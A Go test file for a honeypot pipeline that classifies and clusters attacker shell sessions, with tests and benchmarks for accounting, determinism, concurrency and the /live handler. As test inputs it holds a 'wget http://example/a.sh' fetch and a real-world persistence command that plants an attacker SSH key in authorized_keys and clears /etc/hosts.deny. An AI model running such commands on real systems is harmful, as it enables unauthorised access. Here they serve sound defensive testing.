@@ -1,0 +1,247 @@
+package live
+
+import (
+	"encoding/json"
+	"net/http/httptest"
+	"sync"
+	"testing"
+	"time"
+
+	"honeynet/internal/classify"
+	"honeynet/internal/obs"
+	"honeynet/internal/session"
+	"honeynet/internal/simulate"
+)
+
+// simRecords replays a simulated corpus and returns its records in
+// arrival order.
+func simRecords(t testing.TB, scale float64, seed int64) []*session.Record {
+	t.Helper()
+	var recs []*session.Record
+	_, err := simulate.Run(simulate.Config{
+		Scale:   scale,
+		Seed:    seed,
+		Discard: true,
+		Sink: func(r *session.Record) {
+			cp := *r
+			recs = append(recs, &cp)
+		},
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	return recs
+}
+
+// TestPipelineEndToEnd replays a corpus through the pipeline and checks
+// the snapshot's accounting against a direct batch recount.
+func TestPipelineEndToEnd(t *testing.T) {
+	recs := simRecords(t, 100000, 21)
+	p := NewPipeline(Options{Seed: 3})
+	for _, r := range recs {
+		p.Observe(r)
+	}
+	s := p.Snapshot()
+	if s.Sessions != int64(len(recs)) {
+		t.Fatalf("sessions %d != %d records", s.Sessions, len(recs))
+	}
+
+	// Batch recount with the reference classifier.
+	c := classify.New()
+	var classified, unknown, downloads int64
+	want := map[string]int64{}
+	for _, r := range recs {
+		txt := r.CommandText()
+		if txt == "" {
+			continue
+		}
+		classified++
+		cat := c.ClassifyUncached(txt)
+		want[cat]++
+		if cat == classify.Unknown {
+			unknown++
+		}
+		if len(r.Downloads) > 0 {
+			downloads++
+		}
+	}
+	if s.Classified != classified || s.Unknown != unknown {
+		t.Fatalf("classified/unknown %d/%d != batch %d/%d", s.Classified, s.Unknown, classified, unknown)
+	}
+	if s.Clustered != downloads {
+		t.Fatalf("clustered %d != download sessions %d", s.Clustered, downloads)
+	}
+	got := map[string]int64{}
+	var total int64
+	for _, cs := range s.Categories {
+		got[cs.Name] = cs.Count
+		total += cs.Count
+	}
+	if total != classified {
+		t.Fatalf("category counts sum %d != classified %d", total, classified)
+	}
+	for cat, n := range want {
+		if got[cat] != n {
+			t.Fatalf("category %q: live %d != batch %d", cat, got[cat], n)
+		}
+	}
+	if downloads > 0 && len(s.Clusters) == 0 {
+		t.Fatal("download sessions observed but no live clusters")
+	}
+}
+
+// TestPipelineDeterminism: identical options and arrival order must
+// yield identical snapshots (modulo uptime).
+func TestPipelineDeterminism(t *testing.T) {
+	recs := simRecords(t, 150000, 8)
+	run := func() *Snapshot {
+		p := NewPipeline(Options{Seed: 5})
+		for _, r := range recs {
+			p.Observe(r)
+		}
+		s := p.Snapshot()
+		s.Uptime = ""
+		return s
+	}
+	a, _ := json.Marshal(run())
+	b, _ := json.Marshal(run())
+	if string(a) != string(b) {
+		t.Fatalf("snapshots differ:\n%s\n%s", a, b)
+	}
+}
+
+// TestPipelineConcurrent hammers Observe/Snapshot/Classify from many
+// goroutines; run under -race this is the ingest-path safety test.
+func TestPipelineConcurrent(t *testing.T) {
+	recs := simRecords(t, 200000, 4)
+	p := NewPipeline(Options{Seed: 2})
+	var wg sync.WaitGroup
+	for w := 0; w < 4; w++ {
+		wg.Add(1)
+		go func(off int) {
+			defer wg.Done()
+			for i := off; i < len(recs); i += 4 {
+				p.Observe(recs[i])
+			}
+		}(w)
+	}
+	wg.Add(1)
+	go func() {
+		defer wg.Done()
+		for i := 0; i < 50; i++ {
+			_ = p.Snapshot()
+			_ = p.Classify("wget http://example/a.sh")
+		}
+	}()
+	wg.Wait()
+	if s := p.Snapshot(); s.Sessions != int64(len(recs)) {
+		t.Fatalf("sessions %d != %d", s.Sessions, len(recs))
+	}
+}
+
+// TestPipelineHandlerAndRegister smoke-tests the /live JSON document
+// and the metric registration (a duplicate-name panic would fail here).
+func TestPipelineHandlerAndRegister(t *testing.T) {
+	p := NewPipeline(Options{})
+	reg := obs.NewRegistry()
+	p.Register(reg)
+
+	now := time.Now()
+	p.Observe(&session.Record{
+		Start: now, End: now,
+		Commands: []session.Command{{Raw: `cd ~ && echo "ssh-rsa AAA mdrfckr" >> .ssh/authorized_keys && echo > /etc/hosts.deny`}},
+		Protocol: "ssh",
+	})
+	rec := httptest.NewRecorder()
+	p.Handler().ServeHTTP(rec, httptest.NewRequest("GET", "/live", nil))
+	if rec.Code != 200 {
+		t.Fatalf("status %d", rec.Code)
+	}
+	var s Snapshot
+	if err := json.Unmarshal(rec.Body.Bytes(), &s); err != nil {
+		t.Fatalf("bad /live JSON: %v", err)
+	}
+	if s.Sessions != 1 || s.Classified != 1 {
+		t.Fatalf("bad snapshot %+v", s)
+	}
+	if len(s.Categories) != 1 || s.Categories[0].Name == classify.Unknown {
+		t.Fatalf("mdrfckr text not classified: %+v", s.Categories)
+	}
+}
+
+var (
+	benchOnce  sync.Once
+	benchTexts []string
+	benchDLs   []string
+)
+
+func benchCorpus(b *testing.B) ([]string, []string) {
+	benchOnce.Do(func() {
+		seen := map[string]bool{}
+		_, err := simulate.Run(simulate.Config{
+			Scale:   50000,
+			Seed:    1,
+			Discard: true,
+			Sink: func(r *session.Record) {
+				txt := r.CommandText()
+				if txt == "" {
+					return
+				}
+				if !seen[txt] {
+					seen[txt] = true
+					benchTexts = append(benchTexts, txt)
+				}
+				if len(r.Downloads) > 0 && len(benchDLs) < 4000 {
+					benchDLs = append(benchDLs, txt)
+				}
+			},
+		})
+		if err != nil {
+			panic(err)
+		}
+	})
+	if len(benchTexts) == 0 || len(benchDLs) == 0 {
+		b.Fatal("empty bench corpus")
+	}
+	return benchTexts, benchDLs
+}
+
+// BenchmarkLiveClassify measures the streaming single-pass classifier.
+func BenchmarkLiveClassify(b *testing.B) {
+	texts, _ := benchCorpus(b)
+	m := NewMatcher(classify.New())
+	var bytes int64
+	b.ResetTimer()
+	for i := 0; i < b.N; i++ {
+		txt := texts[i%len(texts)]
+		bytes += int64(len(txt))
+		_ = m.Classify(txt)
+	}
+	b.SetBytes(bytes / int64(b.N))
+}
+
+// BenchmarkBatchClassify measures the batch per-rule probe loop on the
+// same corpus (memo bypassed: the memo answers repeats, not new text).
+func BenchmarkBatchClassify(b *testing.B) {
+	texts, _ := benchCorpus(b)
+	c := classify.New()
+	var bytes int64
+	b.ResetTimer()
+	for i := 0; i < b.N; i++ {
+		txt := texts[i%len(texts)]
+		bytes += int64(len(txt))
+		_ = c.ClassifyUncached(txt)
+	}
+	b.SetBytes(bytes / int64(b.N))
+}
+
+// BenchmarkLiveAssign measures online nearest-medoid assignment over
+// download-session texts.
+func BenchmarkLiveAssign(b *testing.B) {
+	_, dls := benchCorpus(b)
+	a := newAssigner(24, 192, 0.6, 0.25, 256, 1)
+	b.ResetTimer()
+	for i := 0; i < b.N; i++ {
+		a.observe(dls[i%len(dls)])
+	}
+}
